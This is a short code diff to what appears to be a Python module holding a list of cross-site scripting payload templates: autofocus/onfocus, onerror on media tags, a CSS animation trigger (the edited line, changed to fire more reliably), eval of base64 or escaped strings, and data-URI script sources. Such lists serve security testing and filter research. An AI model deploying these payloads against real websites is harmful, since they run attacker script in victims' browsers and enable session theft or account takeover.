@@ -80,7 +80,7 @@ SCRIPTS: Final = (
     "<input autofocus onfocus={run}>",
     "<video><source onerror={run}></video>",
     "<audio src=x: onerror={run}></audio>",
-    "<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={run}>",
+    '<style>@keyframes k{{}}</style><p style="animation:k 99s" onanimationstart={run}>',
     '<script>eval(atob("{base64}"))</script>',
     '<img src=x: onerror="eval(&quot;{escapes}&quot;)">',
     "<script src=data:text/javascript;base64,{base64}></script>",
